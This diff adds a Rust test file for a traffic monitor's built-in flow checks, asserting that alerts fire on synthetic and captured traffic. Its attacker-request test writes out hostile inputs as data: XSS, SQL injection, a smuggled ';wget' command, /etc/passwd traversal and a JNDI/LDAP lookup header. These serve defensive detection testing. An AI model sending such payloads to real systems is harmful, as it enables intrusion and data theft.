@@ -1,0 +1,286 @@
+//! Built-in flow checks: each fires on traffic that it is for, and is quiet on traffic that it is not
+//! for, through the whole of the collector's core. `docs/checks.md` lists them.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::Path;
+
+use shared::script::engine::ScriptEngine;
+use shared::script::registry::Registry;
+use shared::script::source::builtin;
+use shared::script::{ScriptKind, ScriptLimits};
+
+use crate::support::shared_captures;
+use crate::support::traffic::Wire;
+
+/// An HTTP exchange on port 80: what is asked, with which headers, and the answer.
+fn http(target: &str, headers: &str, answer: &[u8]) -> BTreeSet<String> {
+    let mut wire = Wire::new();
+    let request = format!("GET {target} HTTP/1.1\r\nHost: www.example.org\r\n{headers}\r\n");
+    wire.tcp(80, &[(true, request.as_bytes()), (false, answer)], false);
+    types(wire)
+}
+
+fn types(wire: Wire) -> BTreeSet<String> {
+    wire.alerts().into_iter().map(|alert| alert.alert_type).collect()
+}
+
+const AGENT: &str = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n";
+const PAGE: &[u8] = b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n\r\n<html></html>";
+
+/// The smallest head of a program for Windows that names itself one.
+fn program() -> Vec<u8> {
+    let mut program = vec![0; 0x44];
+    program[..2].copy_from_slice(b"MZ");
+    program[0x3c] = 0x40;
+    program[0x40..].copy_from_slice(b"PE\0\0");
+    program
+}
+
+fn answer(head: &str, body: &[u8]) -> Vec<u8> {
+    [format!("HTTP/1.1 200 OK\r\n{head}\r\n").as_bytes(), body].concat()
+}
+
+/// A DNS question of `name`, or the answer that there is none.
+fn dns(name: &str, flags: u16) -> Vec<u8> {
+    let mut message = vec![0x12, 0x34];
+    message.extend(flags.to_be_bytes());
+    message.extend([0, 1, 0, 0, 0, 0, 0, 0]);
+    for label in name.split('.') {
+        message.push(label.len() as u8);
+        message.extend(label.bytes());
+    }
+    message.extend([0, 0, 1, 0, 1]);
+    message
+}
+
+/// The same bytes every time, and no pattern in them.
+fn noise(length: usize) -> Vec<u8> {
+    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
+    let mut next = || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        (state >> 32) as u8
+    };
+    (0..length).map(|_| next()).collect()
+}
+
+#[test]
+fn ordinary_traffic_is_quiet() {
+    let quiet = BTreeSet::new();
+    assert_eq!(http("/index.html?page=2&lang=en", AGENT, PAGE), quiet);
+    let mut wire = Wire::new();
+    wire.udp(53, &[(true, &dns("www.example.org", 0x0100)), (false, &dns("www.example.org", 0x8180))]);
+    assert_eq!(types(wire), quiet);
+    let mut wire = Wire::new();
+    let ping = |kind: u8| [&[kind, 0, 0, 0, 0, 1, 0, 1][..], &(0..56).collect::<Vec<u8>>()].concat();
+    wire.ip(1, true, [203, 0, 113, 5], &ping(8));
+    wire.ip(1, false, [203, 0, 113, 5], &ping(0));
+    assert_eq!(types(wire), quiet);
+}
+
+#[test]
+fn requests_of_attackers() {
+    let fires = |target: &str, headers: &str| http(target, &format!("{AGENT}{headers}"), PAGE);
+    let one = |alert: &str| BTreeSet::from([alert.to_owned()]);
+    assert_eq!(fires("/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), one("url_xss"));
+    assert_eq!(fires("/item?id=1%20UNION%20SELECT%20password", ""), one("url_sql_injection"));
+    assert_eq!(fires("/ping?host=;wget%20http://x/y", ""), one("url_command_injection"));
+    assert_eq!(fires("/.git/config", ""), one("http_suspicious_url"));
+    assert_eq!(fires("/..%2f..%2f..%2fetc/passwd", ""), one("http_suspicious_url"));
+    let shell = fires("/", "X-Api: ${jndi:ldap://x/a}\r\n");
+    assert_eq!(shell, BTreeSet::from(["http_suspicious_header".to_owned(), "possible_exploit".to_owned()]));
+    let agent = |name: &str| http("/", &format!("User-Agent: {name}\r\n"), PAGE);
+    assert_eq!(agent("sqlmap/1.8"), one("http_suspicious_user_agent"));
+    assert_eq!(agent("Mozilla/5.0 (compatible; Googlebot/2.1)"), one("http_crawler"));
+    let basic = http("/", &format!("{AGENT}Authorization: Basic YTpi\r\n"), PAGE);
+    assert_eq!(basic, one("clear_text_credentials"));
+}
+
+#[test]
+fn answers_with_programs_and_old_servers() {
+    let fires = |answer: &[u8]| http("/file", AGENT, answer);
+    let set = |alerts: &[&str]| alerts.iter().map(|alert| (*alert).to_owned()).collect::<BTreeSet<_>>();
+    let body = program();
+    let plain = answer("Content-Type: application/x-msdownload\r\n", &body);
+    assert_eq!(fires(&plain), set(&["binary_data_transfer", "executable_transfer"]));
+    let disguised = answer("Content-Type: image/png\r\n", &body);
+    let expected = ["binary_data_transfer", "executable_transfer", "http_suspicious_content"];
+    assert_eq!(fires(&disguised), set(&expected));
+    let old = answer("Server: Apache/2.2.15\r\nContent-Type: text/html\r\n", b"");
+    assert_eq!(fires(&old), set(&["http_obsolete_server"]));
+    assert_eq!(fires(b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\n\r\n"), set(&["error_code"]));
+}
+
+#[test]
+fn names_that_look_odd() {
+    let asks = |name: &str| {
+        let mut wire = Wire::new();
+        wire.udp(53, &[(true, &dns(name, 0x0100)), (false, &dns(name, 0x8180))]);
+        types(wire)
+    };
+    assert!(asks("xn--80ak6aa92e.com").contains("punycode_name"));
+    assert!(asks("xjw7q9zk2vbq4t.com").contains("dga_domain"));
+    assert!(asks("bad name!.example.org").contains("invalid_characters"));
+    let no_such = {
+        let mut wire = Wire::new();
+        let name = "nowhere.example.org";
+        wire.udp(53, &[(true, &dns(name, 0x0100)), (false, &dns(name, 0x8183))]);
+        types(wire)
+    };
+    assert!(no_such.contains("error_code"), "{no_such:?}");
+}
+
+#[test]
+fn what_flows_do() {
+    let types_of = |show: &dyn Fn(&mut Wire)| {
+        let mut wire = Wire::new();
+        show(&mut wire);
+        types(wire)
+    };
+    let silent = types_of(&|wire| wire.tcp(8443, &[], false));
+    assert!(silent.contains("tcp_no_data_exchanged"), "{silent:?}");
+    let probed = types_of(&|wire| wire.tcp(22, &[], true));
+    assert!(probed.contains("probing_attempt"), "{probed:?}");
+    let reset = types_of(&|wire| wire.tcp(80, &[(true, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n")], true));
+    assert!(reset.contains("tcp_reset") && !reset.contains("probing_attempt"), "{reset:?}");
+    let one_way = types_of(&|wire| wire.udp(9999, &[(true, b"anybody there?")]));
+    assert_eq!(one_way, BTreeSet::from(["unidirectional".to_owned()]));
+    let odd =
+        types_of(&|wire| wire.tcp(8123, &[(true, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n")], false));
+    assert!(odd.contains("non_standard_port"), "{odd:?}");
+    let random = types_of(&|wire| wire.tcp(4711, &[(true, &noise(600)), (false, &noise(600))], false));
+    assert!(random.contains("fully_encrypted"), "{random:?}");
+    let broadcast = types_of(&|wire| {
+        wire.ip(1, true, [255, 255, 255, 255], &[8, 0, 0, 0, 0, 1, 0, 1]);
+    });
+    assert!(broadcast.contains("broadcast_non_udp"), "{broadcast:?}");
+    let covert = types_of(&|wire| {
+        wire.ip(1, true, [203, 0, 113, 5], &[&[8, 0, 0, 0, 0, 1, 0, 1][..], &noise(512)].concat());
+    });
+    assert!(covert.contains("suspicious_entropy"), "{covert:?}");
+    let beacon = types_of(&|wire| {
+        for _ in 0..40 {
+            wire.udp(9999, &[(true, b"ping")]);
+            wire.wait(30);
+        }
+    });
+    assert!(beacon.contains("periodic_beacon"), "{beacon:?}");
+    let ftp = types_of(&|wire| {
+        let said: [(bool, &[u8]); 4] = [
+            (false, b"220 ftp\r\n"),
+            (true, b"USER a\r\n"),
+            (false, b"331 go on\r\n"),
+            (true, b"PASS b\r\n"),
+        ];
+        wire.tcp(21, &said, false);
+    });
+    let expected = BTreeSet::from(["clear_text_credentials", "clear_text_protocol"].map(str::to_owned));
+    assert_eq!(ftp, expected);
+}
+
+#[test]
+fn scores_parts_and_techniques_come_from_the_scripts() {
+    let mut wire = Wire::new();
+    let request = format!("GET /.git/config HTTP/1.1\r\nHost: www.example.org\r\n{AGENT}\r\n");
+    wire.tcp(80, &[(true, request.as_bytes()), (false, PAGE)], false);
+    let alerts = wire.alerts();
+    let [alert] = &alerts[..] else { panic!("{alerts:?}") };
+    assert_eq!((alert.score, alert.severity.name()), (100, "error"));
+    assert_eq!(alert.mitre, ["T1189"]);
+    let parts = [&alert.client, &alert.server].map(|party| party.as_ref().unwrap());
+    assert_eq!(parts.map(|party| (party.is_attacker, party.is_victim)), [(true, false), (false, true)]);
+    assert!(alert.message.contains("/.git/config"), "{}", alert.message);
+}
+
+/// Checks that real captures make fire: the capture, the check, how often.
+const IN_CAPTURES: &[(&str, &str, usize)] = &[
+    ("anydesk.pcapng", "tls_certificate_self_signed", 2),
+    ("anydesk.pcapng", "tls_uncommon_alpn", 1),
+    ("badpackets.pcap", "dns_fragmented", 88),
+    ("badpackets.pcap", "dns_large_packet", 34),
+    ("dns-tunnel-iodine.pcap", "dns_suspicious_traffic", 1),
+    ("dtls_certificate.pcapng", "tls_certificate_expired", 1),
+    ("google_ssl.pcap", "tls_weak_cipher", 1),
+    ("google_ssl.pcap", "obsolete_tls", 1),
+    ("google_ssl.pcap", "tls_missing_sni", 1),
+    ("ipp.pcap", "zero_tcp_window", 1),
+    ("ipp.pcap", "numeric_host", 3),
+    ("smbv1.pcap", "smb_insecure_version", 1),
+    ("ssh.pcap", "ssh_obsolete_client", 1),
+    ("ssh.pcap", "ssh_obsolete_server", 2),
+    ("tls-appdata.pcap", "tcp_issues", 1),
+    ("tls_certificate_too_long.pcap", "tls_certificate_too_long", 8),
+    ("tor.pcap", "tls_certificate_mismatch", 7),
+    ("tor.pcap", "tls_certificate_expires_soon", 3),
+    ("tor.pcap", "tls_not_carrying_https", 7),
+    ("xss.pcap", "url_xss", 1),
+    // And quiet ones: a firefox and a curl that do nothing wrong but be reset in the end.
+    ("443-curl.pcap", "", 1),
+    ("443-firefox.pcap", "", 1),
+];
+
+#[test]
+fn checks_fire_on_real_captures() {
+    let Some(folder) = shared_captures() else { return };
+    let captures: BTreeSet<&str> = IN_CAPTURES.iter().map(|(capture, ..)| *capture).collect();
+    for capture in captures {
+        let mut wire = Wire::new();
+        wire.capture(&folder.join(capture));
+        let mut counts: BTreeMap<String, usize> = BTreeMap::new();
+        for alert in wire.alerts() {
+            *counts.entry(alert.alert_type).or_default() += 1;
+        }
+        for (_, check, wanted) in IN_CAPTURES.iter().filter(|(of, ..)| *of == capture) {
+            if check.is_empty() {
+                assert_eq!(counts, BTreeMap::from([("tcp_reset".to_owned(), *wanted)]), "{capture}");
+            } else {
+                assert_eq!(counts.get(*check), Some(wanted), "{check} in {capture}: {counts:?}");
+            }
+        }
+    }
+}
+
+/// `docs/checks.md` is written from the scripts; set FLOWHOOK_BLESS to write it again.
+#[test]
+fn the_page_of_checks_is_the_list_of_them() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let engine = ScriptEngine::new(ScriptLimits::default());
+    let (registry, errors) = Registry::load(&engine, builtin(), &BTreeMap::new());
+    assert!(errors.is_empty(), "{errors:?}");
+    let mut tables = String::new();
+    for kind in ScriptKind::ALL {
+        let mut rows: Vec<String> = Vec::new();
+        for entry in registry.scripts().iter().filter(|entry| entry.script.meta().kind == kind) {
+            let meta = entry.script.meta();
+            let text = builtin().into_iter().find(|source| source.name == meta.key).unwrap().text;
+            let detects = text.lines().next().unwrap().trim_start_matches("// ").to_owned();
+            let hooks: Vec<_> = meta.hooks.iter().map(|hook| hook.name()).collect();
+            let (severity, score) = meta.weight(&shared::script::AlertRequest::default());
+            let on = if meta.default_enabled { "on" } else { "off" };
+            let mitre = meta.mitre.join(", ");
+            rows.push(format!(
+                "| `{}` | {detects} | {} | {severity}, {score} | {on} | {mitre} |\n",
+                meta.key,
+                hooks.join(", ")
+            ));
+        }
+        if !rows.is_empty() {
+            rows.sort();
+            tables.push_str(&format!(
+                "## Of kind {}\n\n| check | what it detects | hooks | severity, score | default | ATT&CK |\n|---|---|---|---|---|---|\n{}\n",
+                kind.name(),
+                rows.concat()
+            ));
+        }
+    }
+    let page = root.join("docs/checks.md");
+    let text = std::fs::read_to_string(&page).unwrap();
+    let (before, _) = text.split_once("<!-- checks -->\n").unwrap();
+    let right = format!("{before}<!-- checks -->\n{}", tables.trim_end().to_owned() + "\n");
+    if std::env::var_os("FLOWHOOK_BLESS").is_some() {
+        std::fs::write(&page, right).unwrap();
+    } else {
+        assert!(text == right, "docs/checks.md is not the list of the checks: FLOWHOOK_BLESS=1 writes it");
+    }
+}
